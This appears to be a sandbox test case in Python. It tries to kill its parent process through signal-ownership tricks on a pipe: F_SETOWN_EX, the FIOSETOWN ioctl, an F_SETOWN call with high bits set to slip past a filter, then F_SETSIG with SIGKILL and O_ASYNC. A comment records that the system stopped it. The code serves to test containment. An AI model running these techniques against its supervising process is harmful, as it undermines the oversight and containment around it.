"""Lets the kernel kill its parent: a pipe of its own is to send that one a signal of choice when it can be read."""
# verdict: was stopped by the system

import contextlib
import ctypes
import fcntl
import os
import signal
import struct


def attacked(x):
    reading, writing = os.pipe()
    with contextlib.suppress(OSError):  # as a pair, owner of kind process
        fcntl.fcntl(reading, 15, struct.pack("ii", 1, os.getppid()))
        print("BREACH: F_SETOWN_EX")
    with contextlib.suppress(OSError):  # as a call on sockets and terminals
        fcntl.ioctl(reading, 0x8901, struct.pack("i", os.getppid()))
        print("BREACH: FIOSETOWN")
    with contextlib.suppress(OSError):  # by a number whose upper half only this side of the kernel sees
        if ctypes.CDLL(None).fcntl(reading, ctypes.c_long(fcntl.F_SETOWN | 1 << 32), os.getppid()) == 0:
            print("BREACH: F_SETOWN by a longer number")
    fcntl.fcntl(reading, fcntl.F_SETOWN, os.getppid())
    print("BREACH: F_SETOWN")
    fcntl.fcntl(reading, 10, signal.SIGKILL)
    fcntl.fcntl(reading, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
    os.write(writing, b"x")
